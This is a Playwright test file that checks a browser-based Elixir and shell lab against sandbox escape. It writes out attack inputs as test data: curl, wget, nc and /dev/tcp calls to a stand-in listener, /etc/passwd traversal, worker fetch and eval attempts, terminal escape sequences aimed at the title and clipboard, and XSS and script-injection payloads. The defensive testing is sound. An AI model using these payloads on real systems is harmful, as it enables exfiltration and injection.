// Code that wants out of its node: what its worker can reach, what the languages of the terminals try, and what a terminal
// does with the sequences that it prints. Another server listens, and hears nothing.

import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { type CDPSession, expect, type Page, test } from "@playwright/test";
import { startLab } from "./lab.ts";
import { startNodes } from "./playground.ts";
import { TerminalOfPage } from "./terminal.ts";

/** A server of somebody else, and what it was asked. */
type Elsewhere = { readonly origin: string; readonly asked: string[]; close(): void };

async function listenElsewhere(): Promise<Elsewhere> {
  const asked: string[] = [];
  const server: Server = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("");
  });
  await new Promise<void>((resolve) => server.listen(0, resolve));
  return {
    origin: `http://localhost:${(server.address() as AddressInfo).port}`,
    asked,
    close: () => server.close(),
  };
}

/** Evaluates JavaScript inside each worker of the page, as a debugger does, and resolves to the values by worker. */
async function inWorkers(page: Page, expression: string): Promise<[worker: string, value: unknown][]> {
  const debug: CDPSession = await page.context().newCDPSession(page);
  const values: [string, unknown][] = [];
  const answers = new Map<string, (value: unknown) => void>();
  const asking: Promise<void>[] = [];
  debug.on("Target.receivedMessageFromTarget", ({ sessionId, message }) => {
    const { id, result } = JSON.parse(message) as { id?: number; result?: { result: { value: unknown } } };
    if (id === 1) answers.get(sessionId)?.(result?.result.value);
  });
  debug.on("Target.attachedToTarget", ({ sessionId, targetInfo }) => {
    const message = JSON.stringify({
      id: 1,
      method: "Runtime.evaluate",
      params: { expression, awaitPromise: true, returnByValue: true },
    });
    const name = /(\w+)\.worker/.exec(targetInfo.url)?.[1];
    if (name === undefined) return;
    asking.push(
      new Promise<unknown>((resolve) => answers.set(sessionId, resolve)).then((value) => {
        values.push([name, value]);
      }),
    );
    void debug.send("Target.sendMessageToTarget", { sessionId, message });
  });
  await debug.send("Target.setAutoAttach", { autoAttach: true, waitForDebuggerOnStart: false, flatten: false });
  await Promise.all(asking);
  await debug.detach();
  return values;
}

test("the workers of a lab have no network, no storage, no other workers, and make no code from text", async ({
  page,
}) => {
  const elsewhere = await listenElsewhere();
  await startNodes(page);
  const url = JSON.stringify(`${elsewhere.origin}/from-a-worker`);
  // what the debugger runs is not bound by what the page allows, so each way is tried as the code of a worker would
  const tries = {
    fetch: `fetch(${url})`,
    request: `new XMLHttpRequest().open("GET", ${url})`,
    socket: `new WebSocket(${url}.replace("http", "ws"))`,
    events: `new EventSource(${url})`,
    scripts: `importScripts(${url})`,
    module: `import(${url})`,
    font: `new FontFace("x", "url(" + ${url} + ")").load()`,
    worker: `new Worker("data:text/javascript,fetch(" + ${JSON.stringify(url)} + ")")`,
    databases: "indexedDB.databases()",
    caches: "caches.keys()",
    files: "navigator.storage.getDirectory()",
    cookies: "cookieStore.getAll()",
    channel: 'new BroadcastChannel("nodebook")',
    eval: "(0, eval)('1')",
    function: "new Function('return 1')",
    kind: "(() => {}).constructor('return 1')",
    kindOfAsync: "(async () => {}).constructor('return 1')()",
    timer: "setTimeout('1', 0)",
  };
  const steps = Object.entries(tries).map(
    ([name, code]) => `try { await (${code}); reached.push(${JSON.stringify(name)}); } catch {}`,
  );
  const found = await inWorkers(page, `(async () => { const reached = []; ${steps.join("\n")} return reached; })()`);
  expect(found.map(([name]) => name).sort()).toEqual(["machine", "machine", "network"]);
  for (const [, reached] of found) expect(reached).toEqual([]);
  expect(elsewhere.asked).toEqual([]);
  elsewhere.close();
});

test("code of a node reaches nobody outside, and what it prints and calls itself is text", async ({
  page,
  context,
}) => {
  test.setTimeout(180_000);
  const elsewhere = await listenElsewhere();
  const { port } = new URL(elsewhere.origin);
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  page.on("dialog", () => expect(true, "nothing of the reader's may run in the page").toBe(false));
  const [node1] = await startNodes(page);
  const title = await page.title();
  await page.evaluate(() => navigator.clipboard.writeText("mine"));

  await test.step("the network ends in the page, the disk at its root", async () => {
    expect(await node1.ask(`:gen_tcp.connect(~c"localhost", ${port}, [])`)).toBe("{:error, :econnrefused}");
    expect(await node1.ask(`:gen_tcp.connect(~c"example.com", 80, [])`)).toBe("{:error, :nxdomain}");
    expect(await node1.ask(`File.read("../../../../../etc/passwd")`)).toBe("{:error, :enoent}");
    expect(await node1.ask(`File.ls("/../..") == File.ls("/")`)).toBe("true");
  });

  await test.step("a module whose name is JavaScript is a module", async () => {
    // a module's name has no slashes; what stands at its end opens a comment in JavaScript
    const address = `${elsewhere.origin}/from-a-name`.replaceAll("/", "'+String.fromCharCode(47)+'");
    const js = `x\\nfunction f0(){fetch('${address}')}<!--`;
    const code = `defmodule :"${js}" do def f, do: 7 end; :"${js}".f()`;
    expect(await node1.ask(`(${code})`)).toBe("7");
  });

  await test.step("a terminal sets no title, no clipboard, and links nowhere without asking", async () => {
    const sequences = [
      String.raw`\e]0;pwned\a\e]2;pwned\a`,
      String.raw`\e]52;c;cHduZWQ=\a`,
      String.raw`\e]8;;javascript:alert(1)\ahere\e]8;;\a`,
      String.raw`\e[c\e[>c\e[6n\e[21t\eP$q"p\e\\\e[?6n\e[=c\e[?25$p\e[>q\e]11;?\a\e]4;1;?\a\n`,
    ];
    expect(await node1.ask(`IO.write(${JSON.stringify(sequences.join("")).replaceAll("\\\\", "\\")})`)).toBe(":ok");
    // what a terminal answers to such questions is no input of the reader's
    expect(await node1.ask("40 + 2")).toBe("42");
    expect(await page.title()).toBe(title);
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("mine");
    await expect(page.locator("nb-terminal a")).toHaveCount(0);
  });

  await test.step("names and states are text, and as long as a page can bear", async () => {
    const markup = "<img src=x onerror=alert(1)>";
    await node1.ask(`:global.register_name(:"${markup}", self())`);
    const map = page.locator("nb-map");
    await expect(map.getByRole("button", { name: /^node1, .*<img src=x onerror=alert\(1\)>/ })).toBeVisible();
    await node1.ask(`elem(Agent.start_link(fn -> List.duplicate("${markup}", 200_000) end, name: :"${markup}"), 0)`);
    await map.getByRole("button", { name: /^node1, / }).press("Enter");
    await page.getByRole("menuitem", { name: /^Inspect/ }).press("Enter");
    const inspector = page.locator("nb-inspector");
    await inspector.getByRole("button", { name: "Processes", exact: true }).click();
    await inspector.getByRole("searchbox").fill("onerror");
    await inspector
      .getByRole("row", { name: /onerror/ })
      .getByRole("button")
      .first()
      .click();
    await inspector.getByRole("button", { name: "Ask for its state" }).click();
    await expect(inspector.getByText(`["${markup}", "${markup}"`)).toBeVisible();
    expect((await inspector.textContent())?.length).toBeLessThan(200_000);
    await expect(page.locator("img")).toHaveCount(0);
  });
  expect(elsewhere.asked).toEqual([]);
  elsewhere.close();
});

test("the shell has no program that reaches out, and its disk is its own", async ({ page }) => {
  const elsewhere = await listenElsewhere();
  await page.goto("/lessons/one-listener-per-cluster/");
  await startLab(page);
  const bash = new TerminalOfPage(page, "psql");
  const url = `${elsewhere.origin}/from-a-shell`;
  for (const line of [
    `curl ${url}`,
    `wget ${url}`,
    `nc localhost ${new URL(url).port}`,
    `js-exec "fetch('${url}')"`,
    `python3 -c "import urllib.request"`,
    `node -e "fetch('${url}')"`,
  ]) {
    const since = await bash.mark();
    await bash.type(line);
    await bash.shows(new RegExp(`${line.split(" ")[0]}: command not found`), since);
  }
  await bash.type(`echo "GET /from-a-shell" > /dev/tcp/localhost/${new URL(url).port}`);
  await bash.type('cat ../../../../../etc/passwd || echo "nothing $((40 + 2))"');
  await bash.shows(/^nothing 42$/m);
  expect(elsewhere.asked).toEqual([]);
  elsewhere.close();
});
